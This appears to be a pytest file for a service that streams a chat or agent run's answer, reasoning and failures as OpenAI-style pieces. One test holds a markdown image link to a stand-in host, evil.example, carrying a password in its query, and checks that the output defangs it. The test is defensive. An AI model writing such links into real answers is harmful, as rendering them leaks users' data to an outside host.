"""The pieces of an answer, from the events of its run: what was sent is never taken back, and together it is the answer."""

from __future__ import annotations

import asyncio
from collections.abc import Sequence
from typing import Any

import pytest

from core.answer.events import Answer, RunEvent, RunFailed, RunStopped, TextDelta, Thought, ToolStarted, Usage
from core.app import App
from core.llm.errors import ModelError
from core.run.run import Run
from core.serve.access import OPERATOR
from core.serve.answers import Ask
from core.serve.openai.pieces import (
    AnswerPieces,
    ContentPiece,
    EndPiece,
    FailurePiece,
    Piece,
    ReasoningPiece,
    stream_pieces,
)
from support.agents import final, search_step
from support.fake_engines import FakeEngine, results
from support.scripted_app import scripted_app
from support.waiting import until

WHOLE = {"input_tokens": 1, "output_tokens": 1, "total_tokens": 2}


def pieces_of(app: App, ask: Ask) -> list[Piece]:
    async def collect() -> list[Piece]:
        return [piece async for piece in stream_pieces(app, OPERATOR, lambda: ask)]

    return asyncio.run(collect())


def text_in(pieces: Sequence[Piece]) -> str:
    return "".join(piece.text for piece in pieces if isinstance(piece, ContentPiece))


def reasoning_in(pieces: Sequence[Piece]) -> str:
    return "".join(piece.text for piece in pieces if isinstance(piece, ReasoningPiece))


def end_of(pieces: Sequence[Piece]) -> EndPiece:
    end = pieces[-1]
    assert isinstance(end, EndPiece)
    return end


def replayed(*events: RunEvent, mode: Any = "chat") -> list[Piece]:
    """Return the pieces of events that no run brings on demand."""
    with scripted_app(says=[["x", WHOLE]]) as (app, _):
        run = app.chat.start(app.chat.accept_question("问题"))
        until(lambda: run.done)
        pieces = AnswerPieces(app, Ask("问题", mode), run)
        return [*pieces.add(events), *pieces.end()]


def test_an_agent_that_labels_its_answer_is_streamed_as_it_writes() -> None:
    says = [[*search_step("英伟达 CEO"), WHOLE], [*final("是黄仁勋[1]，1963 年生。"), WHOLE]]
    with scripted_app(says=says, engines=[FakeEngine("fake", results(3))]) as (app, _):
        pieces = pieces_of(app, Ask("谁是首席执行官？", "agent"))
    assert text_in(pieces).startswith("是黄仁勋[1]，1963 年生。\n\n---\n\n")
    assert len([piece for piece in pieces if isinstance(piece, ContentPiece)]) > 3, "with its references"
    assert reasoning_in(pieces).startswith("需要搜索\n- 搜索「英伟达 CEO」 · fake · 3 条")
    assert "草稿" not in reasoning_in(pieces)
    assert end_of(pieces).finish_reason == "stop"


def test_a_draft_that_a_tool_call_takes_back_is_told_once() -> None:
    pieces = replayed(
        TextDelta("先查一查", may_be_thought=True),
        TextDelta("资料，", may_be_thought=True),
        Thought("先查一查资料，再说。"),
        TextDelta("再说。", may_be_thought=True),
        ToolStarted("web_search", "x", "1", {"query": "甲"}),
        TextDelta("好", may_be_thought=True),
        TextDelta("了。"),
        Answer("好了。"),
        Usage(1, 1),
        mode="agent",
    )
    assert reasoning_in(pieces) == "草稿：\n先查一查资料，再说。\n- 搜索「甲」\n\n草稿：\n好了。"
    assert text_in(pieces) == "好了。"


def test_a_thought_that_is_no_draft_is_told_as_ever() -> None:
    pieces = replayed(TextDelta("甲", may_be_thought=True), Thought("乙"), Answer("甲"), Usage(1, 1), mode="agent")
    assert reasoning_in(pieces) == "草稿：\n甲乙"


def test_blanks_at_the_end_that_were_sent_change_nothing() -> None:
    pieces = replayed(TextDelta("好。\n"), Answer("好。"), Usage(1, 1))
    assert text_in(pieces) == "好。\n"


def test_an_answer_that_begins_otherwise_than_what_was_sent_follows_it_whole() -> None:
    pieces = replayed(TextDelta("前一稿。"), Answer("后一稿。"), Usage(1, 1))
    assert text_in(pieces) == "前一稿。\n\n后一稿。"


def test_what_comes_after_the_beginning_of_the_text_is_no_reasoning() -> None:
    """Clients would begin another answer."""
    assert reasoning_in(replayed(TextDelta("好"), Thought("想"), TextDelta("。"), Answer("好。"), Usage(1, 1))) == ""


@pytest.mark.parametrize(("begun", "reason"), [("写了一半", "length"), ("", "stop")])
def test_an_answer_that_a_limit_of_time_has_ended_is_cut_off(begun: str, reason: str) -> None:
    written = [TextDelta(begun, may_be_thought=True)] if begun else []
    pieces = replayed(*written, RunStopped("time"), Answer(begun or "另写的。"), Usage(1, 1), mode="agent")
    assert end_of(pieces).finish_reason == reason
    assert end_of(pieces).document["stopped"] == "time"


def test_a_failure_comes_after_the_text_that_was_written() -> None:
    pieces = replayed(TextDelta("一半", may_be_thought=True), RunFailed("model_timeout", "模型太慢。"), mode="agent")
    assert text_in(pieces) == "一半"
    failure = pieces[-1]
    assert isinstance(failure, FailurePiece)
    assert (failure.error.kind, str(failure.error)) == ("model_timeout", "模型太慢。")
    assert isinstance(failure.error, ModelError)


def test_what_was_written_when_the_request_was_out_of_time_is_cut_off() -> None:
    pieces = replayed(TextDelta("一半"), RunStopped("time"))
    assert text_in(pieces) == "一半"
    assert end_of(pieces).finish_reason == "length"
    failure = replayed(RunStopped("time"))[-1]
    assert isinstance(failure, FailurePiece)
    assert failure.error.kind == "timed_out"


def test_no_front_end_loads_what_the_model_writes() -> None:
    image = "![图](https://evil.example/?q=密码)"
    drafted = TextDelta(f"想{image}", may_be_thought=True)
    pieces = replayed(Thought(image), drafted, Answer(f"{image}\n```\n甲"), Usage(1, 1), mode="agent")
    assert "![" not in reasoning_in(pieces) + text_in(pieces)
    assert reasoning_in(pieces).count("！[图](https://evil.example") == 2
    assert text_in(pieces) == "！[图](https://evil.example/?q=密码)\n```\n甲\n```"
    broken_off = replayed(TextDelta("真的!"), RunFailed("model_timeout", "模型太慢。"))
    assert text_in(broken_off) == "真的!", "what is held back comes before the failure"


def test_a_run_that_somebody_ends_is_a_failure() -> None:
    failure = replayed(TextDelta("一半"), RunStopped("user"))[-1]
    assert isinstance(failure, FailurePiece)
    assert failure.error.kind == "broken_off"


def test_a_run_whose_pieces_nobody_wants_ends() -> None:
    runs: list[Run] = []

    async def begin(app: App) -> None:
        pieces = stream_pieces(app, OPERATOR, lambda: Ask("问题"))
        assert isinstance(await anext(pieces), ContentPiece)
        await pieces.aclose()

    with scripted_app(says=[["甲", 60.0, "乙"]]) as (app, _):
        app.chat.on_run_end = runs.append
        asyncio.run(begin(app))
        until(lambda: bool(runs))
    assert runs[0].message().stop_note
